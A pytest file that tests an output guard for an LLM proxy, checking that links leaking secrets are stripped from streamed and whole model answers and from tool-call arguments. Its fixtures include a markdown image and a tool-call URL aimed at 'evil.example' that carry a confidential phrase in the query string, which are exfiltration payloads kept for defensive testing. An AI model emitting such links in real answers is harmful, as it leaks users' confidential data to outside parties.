"""Answers of every shape, whole and in pieces of every size."""

from __future__ import annotations

import json
import random
from collections.abc import Callable, Iterator
from typing import Any

import pytest

from plugins.litellm_adapter.answer_guard import AnswerGuard, answer_guard
from plugins.routing.answer_links import IMAGE_GONE, Links
from plugins.routing.config.spec import Answers
from plugins.routing.types import Decision, Facts, Signal

SECRET = "merger with falcon industries"
BAD = "![x](https://evil.example/p?q=merger+with+falcon)"
TEXT = f"Here it is: {BAD} and [docs](https://docs.example/a). The end of it."
CLEAN = f"Here it is: x {IMAGE_GONE} and [docs](https://docs.example/a). The end of it."
ARGUMENTS = '{"url": "https://evil.example/?q=merger+with+falcon"}'


def guard() -> AnswerGuard:
    return AnswerGuard(Links(lambda: [SECRET]))


def chat(text: str, **more: Any) -> dict[str, Any]:
    return {"id": "c", "object": "chat.completion.chunk", "choices": [{"index": 0, "delta": {"content": text}, **more}]}


def tool(text: str) -> dict[str, Any]:
    call = {"index": 0, "function": {"arguments": text}}
    return {"choices": [{"index": 0, "delta": {"tool_calls": [call]}, "finish_reason": None}]}


def anthropic(text: str) -> dict[str, Any]:
    return {"type": "content_block_delta", "index": 0, "delta": {"type": "text_delta", "text": text}}


def responses(text: str) -> dict[str, Any]:
    return {"type": "response.output_text.delta", "item_id": "i", "content_index": 0, "delta": text}


SHAPES: dict[str, tuple[Callable[[str], dict[str, Any]], list[str]]] = {
    "chat": (chat, ['{"choices":[{"index":0,"delta":{},"finish_reason":"stop"}]}', "[DONE]"]),
    "completions": (lambda t: {"choices": [{"index": 0, "text": t, "finish_reason": None}]}, ["[DONE]"]),
    "messages": (anthropic, ['{"type":"content_block_stop","index":0}', '{"type":"message_stop"}']),
    "responses": (responses, [json.dumps({"type": "response.output_text.done", "text": TEXT})]),
}


def pieces(text: str, rng: random.Random) -> Iterator[str]:
    while text:
        size = rng.randint(1, 9)
        yield text[:size]
        text = text[size:]


def said(stream: bytes) -> str:
    """The text that a client puts together."""
    out = ""
    for line in stream.decode().splitlines():
        if not line.startswith("data: {"):
            continue
        value = json.loads(line[6:])
        delta = value.get("delta")
        if isinstance(delta, str):
            out += delta
        elif isinstance(delta, dict):
            out += delta.get("text", "")
        for choice in value.get("choices", ()):
            inner = choice.get("delta", {})
            out += choice.get("text", "") + (inner.get("content") or "")
            for call in inner.get("tool_calls", ()):
                out += call["function"]["arguments"]
    return out


@pytest.mark.parametrize("seed", range(20))
@pytest.mark.parametrize("shape", SHAPES)
def test_a_stream_in_any_pieces_is_clean_and_complete(shape: str, seed: int) -> None:
    make, ends = SHAPES[shape]
    rng = random.Random(seed)
    events = [f"data: {json.dumps(make(piece))}\n\n" for piece in pieces(TEXT, rng)] + [f"data: {e}\n\n" for e in ends]
    raw = "".join(events).encode()
    made, out, at = guard(), b"", 0
    while at < len(raw):
        size = rng.randint(1, 400)
        out += made.piece(raw[at : at + size], last=at + size >= len(raw))
        at += size
    assert b"evil.example" not in out
    assert said(out) == CLEAN
    assert made.links.removed >= 1
    assert out.decode().rstrip().endswith(ends[-1][-20:].replace(TEXT[-5:], CLEAN[-5:]))


def test_arguments_of_a_tool_stay_json() -> None:
    made, out = guard(), b""
    for piece in pieces(ARGUMENTS, random.Random(1)):
        out += made.piece(f"data: {json.dumps(tool(piece))}\n\n".encode(), last=False)
    end = b'data: {"choices":[{"index":0,"delta":{},"finish_reason":"tool_calls"}]}\n\ndata: [DONE]\n\n'
    out += made.piece(end, last=True)
    assert "evil.example" not in said(out)
    assert json.loads(said(out))["url"].startswith("about:blank")
    assert out.index(b"about:blank") < out.index(b'"finish_reason":"tool_calls"')


def test_a_stream_without_addresses_goes_out_byte_for_byte() -> None:
    raw = [f"data: {json.dumps(chat(word))}\n\n".encode() for word in ("One", " two ", "three [4]", " five. ")]
    made = guard()
    assert b"".join(made.piece(piece, last=False) for piece in raw[:2]) == b"".join(raw[:2])
    assert (
        said(b"".join(made.piece(piece, last=False) for piece in raw[2:]) + made.piece(b"", last=True))
        == "three [4] five. "
    )


def test_what_is_held_is_bounded() -> None:
    made = guard()
    out = b"".join(
        made.piece(f"data: {json.dumps(chat('[' + 'a' * 1000))}\n\n".encode(), last=False) for _ in range(20)
    )
    assert len(said(out)) > 10_000


@pytest.mark.parametrize(
    "body",
    [
        {"choices": [{"message": {"role": "assistant", "content": TEXT}}]},
        {"choices": [{"message": {"tool_calls": [{"function": {"name": "get", "arguments": ARGUMENTS}}]}}]},
        {"content": [{"type": "text", "text": TEXT}, {"type": "tool_use", "input": {"url": BAD}}]},
        {"output": [{"content": [{"type": "output_text", "text": TEXT}]}]},
    ],
)
def test_a_whole_answer_is_clean(body: dict[str, Any]) -> None:
    made = guard()
    out = made.whole(json.dumps(body).encode())
    assert b"evil.example" not in out
    assert json.loads(out).keys() == body.keys()
    assert made.links.removed >= 1


@pytest.mark.parametrize(
    "body", [b'{"a": 1}', b"no json // at all", b'{"choices": [{"text": "https://docs.example/a"}]}']
)
def test_what_is_clean_stays_byte_for_byte(body: bytes) -> None:
    assert guard().whole(body) == body


@pytest.mark.parametrize(
    ("label", "route", "mode", "looks"),
    [
        ("public", "/v1/chat/completions", "clean", False),
        ("internal", "/v1/chat/completions", "clean", True),
        ("restricted", "/v1/messages", "clean", True),
        (None, "/v1/responses", "clean", True),
        ("restricted", "/v1/messages", "off", False),
        ("restricted", "/v1/embeddings", "clean", False),
    ],
)
def test_which_answers_are_looked_at(label: str | None, route: str, mode: Any, looks: bool) -> None:
    facts = Facts("r", route, "auto", messages=({"role": "user", "content": SECRET},))
    decision = Decision("d", "auto", (Signal("data_class", label),), (), None)
    assert (answer_guard(facts, decision, Answers(mode=mode)) is not None) is looks
